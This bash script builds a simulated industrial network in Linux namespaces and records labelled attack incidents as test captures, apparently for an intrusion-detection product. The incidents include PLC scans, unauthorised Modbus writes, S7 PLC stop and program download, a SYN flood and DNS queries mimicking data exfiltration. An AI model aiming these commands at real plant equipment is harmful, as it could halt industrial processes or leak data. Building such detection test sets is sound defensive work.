#!/bin/bash
# Records the plant: builds it from network namespaces on one bridge, runs real protocol stacks, lets the
# incidents happen, and writes the captures and the ground truth next to this script. Needs root on Debian 12.
#   record.sh            the whole recording, about ten minutes
#   record.sh install    only what has to be installed
# QUIET=seconds of quiet (150). WORK=scratch folder (.work here). All traffic stays inside the namespaces.
set -u
cd "$(dirname "$0")"; HERE=$PWD
export WORK=${WORK:-$HERE/.work} NODE_PATH=${WORK:-$HERE/.work}/node_modules
QUIET=${QUIET:-150} NET=10.20.0 ROWS=$WORK/marks.tsv
mkdir -p "$WORK" "$WORK/log" "$WORK/www"

install() {
  apt-get install -y -qq --no-install-recommends python3-pymodbus python3-serial python3-serial-asyncio python3-scapy mosquitto mosquitto-clients dnsmasq snmpd snmp \
    dropbear-bin openssh-client nmap hping3 udhcpc bind9-dnsutils nginx-light curl ethtool iproute2 iputils-ping tcpdump tshark >"$WORK/log/apt" 2>&1 || exit 1
  cp package.json "$WORK/"
  [ -d /usr/include/node ] && export npm_config_nodedir=/usr   # headers from Debian, none fetched
  [ -d "$NODE_PATH/node-snap7" ] || (cd "$WORK" && npm install --no-package-lock --no-audit --no-fund >"$WORK/log/npm" 2>&1) || exit 1
}

# name mac ip role vendor stack serves uses
hosts() { grep -v '^#' <<'T'
gateway|00:00:0c:07:ac:01|10.20.0.1|router|Cisco|Linux routing|-|-
services|00:50:56:a1:00:02|10.20.0.2|DHCP and DNS server|VMware|dnsmasq 2.90|dhcp,dns|-
switch|00:90:e8:5a:10:05|10.20.0.5|managed switch|Moxa|net-snmp 5.9.3, dropbear 2022.83|snmp,ssh|-
plc-fill|00:80:f4:11:20:11|10.20.0.11|PLC|Schneider (Telemecanique)|pymodbus 3.0.0|modbus|-
plc-pump|00:90:e8:22:40:12|10.20.0.12|remote I/O|Moxa|pymodbus 3.0.0|modbus|-
plc-press|28:63:36:aa:30:21|10.20.0.21|PLC|Siemens|snap7 (node-snap7 1.0.9)|s7comm|-
mixer|00:01:05:3c:50:31|10.20.0.31|controller|Beckhoff|node-opcua 2.182.2|opcua|-
plc-pack|00:00:bc:44:60:41|10.20.0.41|PLC|Rockwell|own responder (made by hand)|enip|-
ahu|00:40:84:0b:70:51|10.20.0.51|building controller|Honeywell|node-bacnet 0.2.4|bacnet|-
sensors|00:90:e8:77:80:61|10.20.0.61|sensor gateway|Moxa|mosquitto_pub 2.0.11|-|mqtt
hmi|f8:b1:56:0c:01:00|10.20.0.100|HMI|Dell|pymodbus, node-snap7, st-ethernet-ip, udhcpc|-|modbus,s7comm,enip,dhcp,dns
historian|3c:d9:2b:0d:01:01|10.20.0.101|historian|HP|pymodbus, node-opcua, mosquitto_sub|-|modbus,opcua,mqtt
eng|f8:b1:56:0e:01:02|10.20.0.102|engineering station|Dell|node-snap7, pymodbus, curl, udhcpc|-|s7comm,modbus,http,dhcp,dns
bms|3c:d9:2b:0f:01:03|10.20.0.103|building management|HP|node-bacnet 0.2.4|-|bacnet
nms|3c:d9:2b:10:01:04|10.20.0.104|network management|HP|net-snmp, OpenSSH|-|snmp,ssh
broker|00:50:56:a1:01:10|10.20.0.110|MQTT broker|VMware|mosquitto 2.0.11|mqtt|-
files|00:50:56:a1:01:11|10.20.0.111|file server|VMware|nginx 1.22.1|http|-
laptop|8c:16:45:66:66:66|10.20.0.66|unknown laptop (incidents only)|LCFC (Lenovo)|nmap 7.93, hping3, own bytes|-|-
panel|00:d0:c9:99:00:99|-|operator panel whose DHCP fails (incidents only)|Advantech|udhcpc|-|dhcp
T
}
ns() { local h=$1; shift; ip netns exec "rp-$h" "$@"; }
bg() { local h=$1 log=$2; shift 2; ip netns exec "rp-$h" timeout 1500 "$@" >"$WORK/log/$log" 2>&1 & PIDS+=($!); }
now() { date -u +%s.%N; }
PIDS=() HOSTS=$(hosts | cut -d'|' -f1)

clean() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done; sleep 1
  for h in $HOSTS net inet; do
    ip netns list | grep -q "^rp-$h\b" || continue
    kill -9 $(ip netns pids "rp-$h") 2>/dev/null; ip netns del "rp-$h"
  done
}

build() {
  ip netns add rp-net; ns net sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ns net ip link add br0 type bridge forward_delay 0; ns net ip link set br0 up
  local n=0
  while IFS='|' read -r h mac addr _; do
    n=$((n+1)); ip netns add "rp-$h"
    ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ns "$h" ip link set lo up
    ip -n rp-net link add "p$n" type veth peer name eth0 netns "rp-$h" address "$mac"
    # no offload: every frame on the bridge is a frame of at most 1514 bytes with its real checksum
    ns "$h" ethtool -K eth0 tx off rx off gso off gro off tso off >/dev/null 2>&1
    ns net ethtool -K "p$n" tx off rx off gso off gro off tso off >/dev/null 2>&1
    ns net ip link set "p$n" master br0 up; echo "p$n" >"$WORK/port-$h"
    case $h in
      laptop|panel) ;;                                      # plugged in later
      hmi|eng) ns "$h" ip link set eth0 up ;;               # ask DHCP when the recording runs
      *) ns "$h" ip link set eth0 up; ns "$h" ip addr add "$addr/24" broadcast $NET.255 dev eth0
         [ "$h" = gateway ] || ns "$h" ip route add default via $NET.1 ;;
    esac
  done < <(hosts)
  # behind the gateway, off the bridge: one "Internet" host
  ip netns add rp-inet; ns inet ip link set lo up
  ip -n rp-gateway link add wan type veth peer name eth0 netns rp-inet
  ns gateway ethtool -K wan tx off gro off gso off tso off >/dev/null; ns inet ethtool -K eth0 tx off gro off gso off tso off >/dev/null
  ns gateway ip addr add 203.0.113.1/24 dev wan; ns gateway ip link set wan up; ns gateway sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0
  ns inet ip addr add 203.0.113.7/24 dev eth0; ns inet ip link set eth0 up; ns inet ip route add default via 203.0.113.1
}

lease() { # host, name (option 12), vendor class (option 60), tries
  ns "$1" udhcpc -i eth0 -q -n -f -t "${4:-4}" -T 2 -x "hostname:$2" -V "$3" -s "$HERE/stacks/lease.sh" >>"$WORK/log/dhcp-$1" 2>&1
}

servers() {
  local d=(); while IFS='|' read -r h mac addr _; do [ "$addr" = - ] || d+=(--dhcp-host="$mac,$addr" --host-record="$h.plant.example,$addr"); done < <(hosts)
  rm -f "$WORK/leases"
  bg services dnsmasq dnsmasq --keep-in-foreground --conf-file=/dev/null --user=root --no-hosts --no-resolv --no-ping --interface=eth0 --bind-interfaces \
    --pid-file= --dhcp-leasefile="$WORK/leases" --dhcp-range=$NET.60,$NET.120,1h --dhcp-option=option:router,$NET.1 --domain=plant.example --local=/plant.example/ \
    --dhcp-host=00:d0:c9:99:00:99,ignore --address=/example.net/203.0.113.7 "${d[@]}"
  bg plc-fill modbus-fill stacks/modbus_plc.py ident
  bg plc-pump modbus-pump stacks/modbus_plc.py
  bg plc-press s7 node stacks/s7_plc.js
  bg mixer opcua node stacks/opcua_server.js $NET.31
  bg plc-pack enip stacks/enip_device.py
  bg ahu bacnet node stacks/bacnet_device.js
  printf 'listener 1883\nallow_anonymous true\n' >"$WORK/mosquitto.conf"; bg broker mosquitto mosquitto -c "$WORK/mosquitto.conf"
  printf 'agentaddress udp:161\nrocommunity plant-ro\nsysdescr Moxa EDS-508A, firmware V3.8\nsysname switch-hall2\nsyslocation Hall 2\n' >"$WORK/snmpd.conf"
  bg switch snmpd snmpd -f -Lo -C -c "$WORK/snmpd.conf" -p "$WORK/snmpd.pid" -I -smux
  rm -f "$WORK/hostkey"; dropbearkey -t ed25519 -f "$WORK/hostkey" >/dev/null 2>&1; bg switch dropbear dropbear -F -E -r "$WORK/hostkey" -p 22 -P "$WORK/dropbear.pid"
  echo '<h1>Plant documents</h1>' >"$WORK/www/index.html"; head -c 20000 /dev/zero | tr '\0' 'x' >"$WORK/www/manual.txt"
  # the EICAR test file, put together from halves so that no text file of the repository holds it
  printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD' '-ANTIVIRUS-TEST-FILE!$H+H*' >"$WORK/www/driver-update.com"; chmod -R a+rX "$WORK"
  cat >"$WORK/nginx.conf" <<N
worker_processes 1; daemon off; pid $WORK/nginx.pid; error_log $WORK/log/nginx-error; user root;
events { worker_connections 64; }
http { access_log off; server { listen 80; root $WORK/www; } }
N
  bg files nginx nginx -c "$WORK/nginx.conf"
  bg inet http python3 -m http.server 80 --directory "$WORK/www"
}

background() { # what the plant does all day
  bg hmi hmi-fill stacks/modbus_client.py hmi $NET.11
  bg hmi hmi-pump stacks/modbus_client.py hmi $NET.12
  bg hmi hmi-s7 node stacks/s7_client.js hmi $NET.21
  bg hmi hmi-enip node stacks/enip_client.js $NET.41
  bg historian hist-fill stacks/modbus_client.py historian $NET.11
  bg historian hist-pump stacks/modbus_client.py historian $NET.12
  bg historian hist-opcua node stacks/opcua_client.js $NET.31
  bg historian hist-mqtt mosquitto_sub -h $NET.110 -i historian -t 'plant/#' -q 1
  bg bms bms node stacks/bacnet_client.js $NET.51
  bg sensors mqtt-pub sh -c "for i in \$(seq 300); do echo \"{\\\"t\\\":\$((20 + i % 7)),\\\"n\\\":\$i}\"; sleep 3; done | mosquitto_pub -h $NET.110 -i sensors-hall2 -t plant/hall2/temperature -q 1 -l"
  bg nms snmp sh -c "for i in \$(seq 60); do snmpget -v2c -c plant-ro $NET.5 1.3.6.1.2.1.1.1.0 1.3.6.1.2.1.1.5.0 1.3.6.1.2.1.1.3.0; sleep 15; done"
  bg nms ssh sh -c "for i in \$(seq 20); do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=4 admin@$NET.5 true; sleep 45; done"
  bg eng http sh -c "for i in \$(seq 40); do dig +short +tries=1 @$NET.2 files.plant.example; curl -s -o /dev/null http://$NET.111/manual.txt; sleep 25; done"
  bg hmi dns sh -c "for i in \$(seq 60); do dig +short +tries=1 @$NET.2 historian.plant.example; sleep 20; done"
}

# incident ID|SOURCE|TARGET|PROTOCOL|WHAT|EXPECTATION|ALERT TYPES|TSHARK FILTER (which frames of the window belong to it)|COMMAND
incident() {
  local id=$1 src=$2 dst=$3 proto=$4 what=$5 expect=$6 alerts=$7 filter=$8; shift 8
  echo "--- $id"; sleep 9                                            # calm before each
  local a b; a=$(now); "$@" >"$WORK/log/i-$id" 2>&1; sleep 0.7; b=$(now)
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$id" "$a" "$b" "$src" "$dst" "$proto" "$what" "$expect" "$alerts" "$filter" >>"$ROWS"
}
L=$NET.66 LM='eth.addr==8c:16:45:66:66:66'
port() { ns net ip link set "$(cat "$WORK/port-$1")" "$2"; }
plug_in() { ns laptop ip link set eth0 up; sleep 0.3; lease laptop DESKTOP-7QK2 "MSFT 5.0"; ns laptop ping -c 2 -i 0.5 $NET.1; }
frozen() { local p; p=$(pgrep -f 'modbus_plc.py$' | while read -r q; do ip netns pids rp-plc-pump | grep -x "$q"; done); kill -STOP $p; sleep 47; kill -CONT $p; }
unplugged() { port plc-pump down; sleep 46; port plc-pump up; sleep 2; }
dns_burst() { for i in $(seq 40); do ns laptop dig +short +tries=1 +time=1 @$NET.2 "$(printf 'c2VjcmV0%04x' $((i * 1571))).t.example.net"; done; }
icmp_sweep() { ns laptop nmap -n -sn -PE --disable-arp-ping --send-ip --max-retries 0 --host-timeout 3s --max-rate 100 $NET.1-120; }
ics_scripts() {
  ns laptop nmap -n -Pn -sT -p 502 --script modbus-discover $NET.11 $NET.12
  ns laptop nmap -n -Pn -sT -p 102 --script s7-info $NET.21
  ns laptop nmap -n -Pn -sT -p 44818 --script enip-info $NET.41
  ns laptop nmap -n -Pn -sU -p 47808 --script bacnet-info $NET.51
}

incidents() {
  local M="$LM && ip.addr==$NET.11" S="ip.addr==$NET.21 && ip.addr==$NET.102"
  incident new-host $L $NET.2 dhcp "a laptop never seen before is plugged in and gets 10.20.0.66 by DHCP (name DESKTOP-7QK2, class MSFT 5.0), pings the gateway" "new host" PS-2038 "$LM" plug_in
  incident arp-sweep $L $NET.0/24 arp "nmap -sn: ARP requests for all 254 addresses" "host sweep" PS-4009 "$LM" ns laptop nmap -n -sn $NET.0/24
  incident icmp-sweep $L $NET.0/24 icmp "nmap -sn -PE: echo requests to .1-.120 (the kernel asks by ARP first; only living hosts see the ping)" "host sweep" - "$LM" icmp_sweep
  incident port-scan $L $NET.11 tcp "nmap -sS of TCP ports 1-600 on a PLC" "port scan" PS-4021 "$M" ns laptop nmap -n -Pn -sS -p 1-600 -T4 $NET.11
  incident ics-scripts $L $NET.11,$NET.12,$NET.21,$NET.41,$NET.51 "modbus,s7comm,enip,bacnet" "nmap modbus-discover (FC 17 and 43), s7-info, enip-info, bacnet-info" "new talkers to PLCs, device identification asked by a stranger" PS-1020,PS-2089 "$LM" ics_scripts
  incident modbus-write-new-host $L $NET.11 modbus "FC 5, 6, 16, 15 written by the laptop, all accepted" "write by a host that never wrote" PS-2089 "$M && tcp.port==502" ns laptop stacks/modbus_client.py write $NET.11
  incident modbus-new-range $NET.100 $NET.11 modbus "the known HMI reads holding registers 120-144, never read before, 5 times" "known host, new address range" PS-2016 "modbus.reference_num==120 || (modbus.func_code==3 && modbus.byte_cnt==50)" ns hmi stacks/modbus_client.py newrange $NET.11
  incident modbus-bad-functions $L $NET.11 modbus "requests with FC 0, 100, 9 and 0x83 (a request that looks like an exception), each on its own connection" "illegal function codes" PS-1007,PS-1008,PS-1020,PS-1023,PS-2089 "$M && tcp.port==502" ns laptop stacks/modbus_raw.py functions $NET.11
  incident modbus-exceptions $L $NET.11 modbus "illegal address (exception 2, five times), illegal value: quantity 0, quantity 200, coil value 0x1234, illegal functions 65 and 66 (exception 1)" "exception replies, exception burst" PS-1001,PS-1018,PS-1019,PS-2089 "$M && tcp.port==502" ns laptop stacks/modbus_raw.py exceptions $NET.11
  incident modbus-malformed $L $NET.11 modbus "six broken requests (protocol id 1; byte count too big; cut short; bytes left over; length 1; length 300), each followed by a valid FC 3 on the same connection" "malformed requests; the parser finds the next request or gives up the connection, and stays up" PS-1009,PS-1019 "$M && tcp.port==502" ns laptop stacks/modbus_raw.py malformed $NET.11
  incident s7-new-db $NET.102 $NET.21 s7comm "the engineering station reads DB 77 (exists) and DB 999 (does not), neither ever read" "known host, new DB" PS-2047 "$S" ns eng node stacks/s7_client.js newdb $NET.21
  incident s7-stop-start $NET.102 $NET.21 s7comm "PLC stop, 3 s later hot start, both accepted" "PLC stop, PLC start" PS-2076,PS-5001,PS-5006 "$S" ns eng node stacks/s7_client.js stopstart $NET.21
  incident s7-download $NET.102 $NET.21 s7comm "program download: request to download FC 1" "program download attempted" PS-2073 "$S" ns eng node stacks/s7_client.js download $NET.21
  incident s7-upload $NET.102 $NET.21 s7comm "program upload: DB 1 and OB 1" "program upload attempted" PS-2072 "$S" ns eng node stacks/s7_client.js upload $NET.21
  incident dns-burst $L $NET.2 dns "40 DNS queries for changing names under t.example.net within seconds" "DNS burst" PS-3016 "$LM && dns" dns_burst
  incident internet-laptop $L 203.0.113.7 http "the laptop fetches http://203.0.113.7/ through the gateway" "contact with an Internet address" PS-2014,PS-2061 "$LM && ip.addr==203.0.113.7" ns laptop curl -s -m 5 -A updater/1.0 http://203.0.113.7/
  incident internet-hmi $NET.100 203.0.113.7 http "the HMI, known and never outside, fetches http://203.0.113.7/" "OT host contacts an Internet address" PS-2014,PS-2061 "ip.addr==203.0.113.7" ns hmi curl -s -m 5 http://203.0.113.7/
  incident eicar-http $NET.102 $NET.111 http "the engineering station downloads the EICAR test file as driver-update.com" "malicious file content" PS-3005 "tcp.port==80 && ip.addr==$NET.102" ns eng curl -s -m 5 -o /dev/null http://$NET.111/driver-update.com
  ns panel ip link set eth0 up
  incident dhcp-unanswered 0.0.0.0 255.255.255.255 dhcp "a panel (00:d0:c9:99:00:99, name panel-07) sends six DHCP discovers, the server keeps silent" "DHCP unanswered; new host" PS-2038,PS-5008 "eth.addr==00:d0:c9:99:00:99" lease panel panel-07 "Advantech TPC" 6
  incident plc-frozen $NET.12 $NET.100 modbus "the program of plc-pump hangs 47 s: TCP still acknowledges, no Modbus request is answered, the HMI asks again and again" "PLC silent" PS-5036 "ip.addr==$NET.12 && ip.addr==$NET.100" frozen
  incident plc-unplugged $NET.12 $NET.100 modbus "the link of plc-pump is down 46 s: HMI and historian retransmit, then only ARP for it" "PLC silent; host gone" PS-5009 "ip.addr==$NET.12 || arp.dst.proto_ipv4==$NET.12 || arp.src.proto_ipv4==$NET.12" unplugged
  incident syn-flood $L $NET.11 tcp "hping3: 4000 SYN to port 502 from changing source ports in about ten seconds" "connection flood" PS-3007 "$M && tcp" ns laptop hping3 -q -n -S -p 502 -s 10000 -c 4000 -i u2000 $NET.11
  sleep 9
}

[ "$(id -u)" = 0 ] || { echo "needs root"; exit 1; }
install; [ "${1:-}" = install ] && exit
trap clean EXIT; clean 2>/dev/null; build; servers
for i in $(seq 40); do grep -q 'opcua up' "$WORK/log/opcua" 2>/dev/null && break; sleep 1; done
bg net tcpdump tcpdump -i br0 -s 0 -B 8192 -U --immediate-mode -Z root -w "$WORK/all.pcap"; sleep 2
: >"$ROWS"; START=$(now)
lease hmi HMI-LINE1 "MSFT 5.0"; lease eng ENG-WS01 "MSFT 5.0"
background
sleep 20; ns eng node stacks/s7_client.js ident $NET.21 >"$WORK/log/eng-s7" 2>&1
sleep 5; ns eng stacks/modbus_client.py ident $NET.11 >"$WORK/log/eng-ident1" 2>&1; ns eng stacks/modbus_client.py ident $NET.12 >"$WORK/log/eng-ident2" 2>&1
left=$(echo "$(now) $START $QUIET" | awk '{d = $3 - ($1 - $2); print (d > 0 ? d : 0)}'); sleep "$left"
SPLIT=$(now); incidents; sleep 1
clean; trap - EXIT
{ printf 'name\tmac\tip\trole\tvendor\tstack\tserves\tuses\n'; hosts | tr '|' '\t'; } >hosts.tsv
python3 stacks/truth.py "$WORK/all.pcap" "$SPLIT" "$ROWS" "$HERE" && /usr/bin/python3 stacks/hostile.py "$HERE/hostile.pcap.gz" && python3 stacks/truth.py check "$HERE"
ls -l *.gz
